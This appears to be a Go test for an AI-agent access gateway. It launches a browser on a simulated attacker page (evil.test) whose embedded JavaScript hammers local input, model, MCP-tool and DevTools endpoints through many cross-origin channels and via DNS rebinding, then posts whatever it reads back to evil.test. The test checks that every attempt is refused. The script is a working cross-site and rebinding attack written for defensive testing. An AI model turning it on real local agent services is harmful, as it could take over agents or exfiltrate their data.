package attack

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sallyport-dev/sallyport/internal/action"
	"github.com/sallyport-dev/sallyport/internal/browser"
	"github.com/sallyport-dev/sallyport/internal/gate/gatetest"
	"github.com/sallyport-dev/sallyport/internal/surface/cdp"
	"github.com/sallyport-dev/sallyport/internal/surface/computer"
	"github.com/sallyport-dev/sallyport/internal/surface/inference"
	"github.com/sallyport-dev/sallyport/internal/surface/mcp"
)

// nothing is what the doors lead to: asking any of it is a panic.
type nothing struct {
	computer.Screen
	inference.Observer
	providerKey
}

type providerKey = inference.Key

// doorAsked is a door on a socket that keeps who asked it and what it said.
type doorAsked struct {
	*httptest.Server
	mu   sync.Mutex
	seen map[string]int // "status code" to how often
	ways map[string]bool
}

func askedDoor(t *testing.T, h http.Handler) *doorAsked {
	t.Helper()
	d := &doorAsked{seen: map[string]int{}, ways: map[string]bool{}}
	d.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		var said struct {
			Code  string `json:"code"`
			Error struct {
				Code any `json:"code"` // of JSON-RPC a number, and ours in data
				Data struct {
					Code string `json:"code"`
				} `json:"data"`
			} `json:"error"`
		}
		json.Unmarshal(rec.Body.Bytes(), &said) // what cannot be read has no code
		d.mu.Lock()
		code := said.Code + said.Error.Data.Code
		if text, ok := said.Error.Code.(string); ok {
			code += text
		}
		d.seen[fmt.Sprint(rec.Code, " ", code)]++
		d.ways[r.Method+" "+r.Header.Get("Sec-Fetch-Mode")+" "+r.Header.Get("Sec-Fetch-Site")] = true
		d.mu.Unlock()
		for k, v := range rec.Header() {
			w.Header()[k] = v
		}
		w.WriteHeader(rec.Code)
		w.Write(rec.Body.Bytes())
	}))
	t.Cleanup(d.Close)
	return d
}

// asksDoors is a page's script: it asks a door in every way that needs no
// preflight, and in those that do.
const asksDoors = `
const go = f => { try { const p = f(); if (p && p.catch) p.catch(() => {}) } catch (e) {} };
const frame = () => { const f = document.createElement('iframe'); document.body.append(f); return f };
window.read = [];
const note = u => r => r.text().then(b => { if (r.type != 'opaque' && r.ok) read.push(u + ' ' + b) });
const body = JSON.stringify({actions: [{type: 'screenshot'}]});
function askDoor(base) {
  for (const path of ['/v1/display', '/v1/actions', '/v1/messages', '/json/version', '/json/new?about:blank', '/devtools/browser/x', '/mcp']) {
    const u = base + path;
    for (const mode of ['no-cors', 'cors', 'same-origin']) for (const [method, type] of [['GET'], ['HEAD'], ['POST', 'text/plain'], ['POST', 'application/x-www-form-urlencoded'], ['POST', 'multipart/form-data; boundary=x'], ['POST', 'application/json'], ['PUT', 'application/json']])
      go(() => fetch(u, {method, mode, body: type && body, headers: type ? {'Content-Type': type} : {}}).then(note(u)));
    go(() => new WebSocket(u.replace('http', 'ws')));
    go(() => new EventSource(u));
    go(() => navigator.sendBeacon(u, body));
    go(() => new Image().src = u);
    go(() => document.head.append(Object.assign(document.createElement('script'), {src: u})));
    go(() => { frame().src = u });
    go(() => { const f = document.createElement('form'), t = frame(); t.name = 't' + Math.random(); f.target = t.name; f.method = 'post'; f.enctype = 'text/plain'; f.action = u; f.innerHTML = '<input name=\'{"actions":[{"type":"screenshot","x":"\' value=\'"}]}\'>'; document.body.append(f); f.submit() });
    go(() => { const f = frame(); f.sandbox = 'allow-scripts'; f.srcdoc = '<script>fetch(' + JSON.stringify(u) + ', {method: "POST", mode: "no-cors", body: ' + JSON.stringify(body) + '})<\/script>' });
    go(() => new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(u) + ', {mode: "no-cors", method: "POST", body: ' + JSON.stringify(JSON.stringify(body)) + '})']))));
  }
}
`

// A page of the attacker's is open in a browser that could reach the doors for
// input, for the model, for tools and for the browser's protocol. It asks them by their
// addresses, from its own origin; and by a name of its own that leads to them
// after its page has loaded, from what is then their own origin (DNS rebinding).
// No way in which a real browser asks is answered, let alone read.
//
// Threats: T8, B5, H1, H2 (form)
func TestPageAsksEveryDoor(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a browser")
	}
	kit := gatetest.New(t, nil)
	none := nothing{}
	screen, err := computer.New(computer.Config{Tenant: gatetest.Tenant, Task: gatetest.Task, Agent: gatetest.Agent, Gate: kit, Screen: none, Journal: computer.NewJournal(nil), Width: 1280, Height: 800, AppOf: func(string) string { return "" }})
	if err != nil {
		t.Fatal(err)
	}
	model, err := inference.New(inference.Config{Tenant: gatetest.Tenant, Task: gatetest.Task, Agent: gatetest.Agent, Gate: kit, Observer: none, Key: none, Upstream: "https://127.0.0.1:1"})
	if err != nil {
		t.Fatal(err)
	}
	protocol, err := cdp.New(cdp.Config{Tenant: gatetest.Tenant, Task: gatetest.Task, Agent: gatetest.Agent, Profile: cdp.Open, Version: "Chrome/1", Width: 1280, Height: 800, Gate: kit, Journal: struct{ cdp.Journal }{},
		Open: func(cdp.Events) (cdp.Upstream, error) { return nil, errors.New("a page was let in") }, AppOf: func(string) string { return "" }})
	if err != nil {
		t.Fatal(err)
	}
	tools, err := mcp.New(mcp.Config{Tenant: gatetest.Tenant, Task: gatetest.Task, Agent: gatetest.Agent, Gate: kit, Observer: struct{ mcp.Observer }{}, Redact: func(b []byte) []byte { return b },
		Recognize: func(string, string, []byte) (mcp.Meaning, error) {
			return mcp.Meaning{}, errors.New("a page was let in")
		}, Servers: []mcp.Server{{App: "queue", URL: "https://127.0.0.1:1/mcp", Tools: []string{"read"}}}})
	if err != nil {
		t.Fatal(err)
	}
	doors := map[string]*doorAsked{"tools": askedDoor(t, tools), "input": askedDoor(t, screen), "model": askedDoor(t, model), "protocol": askedDoor(t, protocol)}
	script := "<script>" + asksDoors + "onload = () => {" // what is asked after it has loaded does not hold up the load
	var frames strings.Builder
	for _, d := range doors {
		_, port, _ := net.SplitHostPort(d.Listener.Addr().String())
		script += "askDoor('http://127.0.0.1:" + port + "');askDoor('http://localhost:" + port + "');askDoor('http://other.test:" + port + "');\n"
		fmt.Fprintf(&frames, "<iframe src='http://rebound.test:%s/page'></iframe>", port)
	}
	rebound := "<!doctype html><body><script>" + asksDoors + "onload = () => { askDoor(location.origin); setTimeout(() => parent.postMessage(read, '*'), 2500) }</script>"
	front := "<!doctype html><body>" + frames.String() + script + `};
let came = 0; onmessage = e => { read.push(...e.data); if (++came == 4) fetch('/read', {method: 'POST', body: JSON.stringify(read)}) }</script>`
	result := make(chan []string, 1)
	// The browser's network: two pages of the attacker's, and the doors.
	network := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, port, _ := net.SplitHostPort(r.Host)
		switch {
		case r.Host == "evil.test" && r.URL.Path == "/read":
			var read []string
			json.NewDecoder(r.Body).Decode(&read)
			result <- read
		case r.Host == "evil.test" || r.URL.Path == "/page":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, map[bool]string{true: front, false: rebound}[r.Host == "evil.test"])
		default:
			forward(w, r, "127.0.0.1:"+port)
		}
	})}
	b, err := browser.Launch(t.Context(), browser.Config{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.Close(); network.Close() })
	go network.Serve(b.ProxyListener())
	if err := b.Navigate(t.Context(), "http://evil.test/"); err != nil {
		t.Fatal(err)
	}
	select {
	case read := <-result:
		if len(read) > 0 {
			t.Errorf("the page has read %.2000q", read)
		}
	case <-time.After(2 * time.Minute):
		t.Error("the page did not come to its end")
	}
	for name, d := range doors {
		d.mu.Lock()
		for _, want := range []string{"403 from_a_page", "403 wrong_host"} {
			if d.seen[want] == 0 {
				t.Errorf("%s: nothing was answered %s, so not every way was tried: %v", name, want, d.seen)
			}
		}
		for said, n := range d.seen {
			if said != "403 from_a_page" && said != "403 wrong_host" {
				t.Errorf("%s said %s to a page, %d times; ways %v", name, said, n, d.ways)
			}
		}
		if len(d.ways) < 8 {
			t.Errorf("%s was asked in %d ways only: %v", name, len(d.ways), d.ways)
		}
		d.mu.Unlock()
	}
	for _, d := range kit.Log.Decisions(t) {
		if d.Decision.Verdict == action.Allow && !strings.HasSuffix(d.Action.Operation, ".malformed") {
			t.Errorf("decided for a page: %s %+v", d.Action.Operation, d.Decision)
		}
	}
}

// forward is a network without policy: it passes a request or a tunnel on.
func forward(w http.ResponseWriter, r *http.Request, to string) {
	up, err := net.DialTimeout("tcp", to, 5*time.Second)
	if err != nil {
		http.Error(w, "gone", http.StatusBadGateway)
		return
	}
	defer up.Close()
	if r.Method == http.MethodConnect {
		c, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n")
		go func() { io.Copy(up, rw); up.Close() }()
		io.Copy(c, up)
		return
	}
	out := r.Clone(r.Context())
	out.URL = &url.URL{Scheme: "http", Host: r.Host, Path: r.URL.Path, RawQuery: r.URL.RawQuery}
	out.RequestURI = ""
	tr := &http.Transport{DisableKeepAlives: true, DisableCompression: true, Dial: func(string, string) (net.Conn, error) { return up, nil }}
	resp, err := tr.RoundTrip(out)
	if err != nil {
		http.Error(w, "gone", http.StatusBadGateway)
		return
	}
	defer resp.Body.Close()
	for k, v := range resp.Header {
		w.Header()[k] = v
	}
	w.WriteHeader(resp.StatusCode)
	io.Copy(w, resp.Body)
}
